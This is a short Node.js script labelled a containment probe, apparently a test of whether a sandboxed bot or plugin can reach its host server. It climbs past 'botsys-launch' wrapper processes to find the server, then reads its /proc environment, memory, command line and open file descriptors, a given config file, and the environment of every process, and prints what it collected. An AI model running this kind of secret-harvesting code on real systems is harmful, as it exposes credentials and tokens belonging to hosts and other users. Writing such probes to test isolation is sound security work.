// Containment probe (see ../python/snoop.py): looks for the server's secrets, returns what it read.
const fs = require("fs");

const CAP = 4096;
const ppidOf = (pid) => fs.readFileSync(`/proc/${pid}/stat`, "utf8").split(")").pop().trim().split(/\s+/)[1];

function serverPid() {
  let pid = ppidOf("self");
  while (fs.readFileSync(`/proc/${pid}/comm`, "utf8").startsWith("botsys-launch")) pid = ppidOf(pid);
  return pid;
}

function grab(path, found, denied) {
  try {
    const fd = fs.openSync(path, "r");
    try {
      const buf = Buffer.alloc(CAP);
      const n = fs.readSync(fd, buf, 0, CAP, null);
      found[path] = buf.subarray(0, n).toString("utf8");
    } finally {
      fs.closeSync(fd);
    }
  } catch (err) {
    denied.push(`${path}: ${err.code}`);
  }
}

let input = "";
process.stdin.on("data", (d) => (input += d));
process.stdin.on("end", () => {
  const payload = JSON.parse(input).payload;
  const server = serverPid();
  const found = {};
  const denied = [];
  for (const name of ["environ", "mem", "cmdline"]) grab(`/proc/${server}/${name}`, found, denied);
  let fds = [];
  try {
    fds = fs.readdirSync(`/proc/${server}/fd`);
  } catch (err) {
    denied.push(`/proc/${server}/fd: ${err.code}`);
  }
  for (const fd of fds) grab(`/proc/${server}/fd/${fd}`, found, denied);
  grab(payload.config, found, denied);
  for (const pid of fs.readdirSync("/proc").filter((p) => /^\d+$/.test(p))) {
    for (const name of ["environ", "cmdline"]) grab(`/proc/${pid}/${name}`, found, denied);
  }
  console.log(JSON.stringify({ result: { server: Number(server), found, denied } }));
});
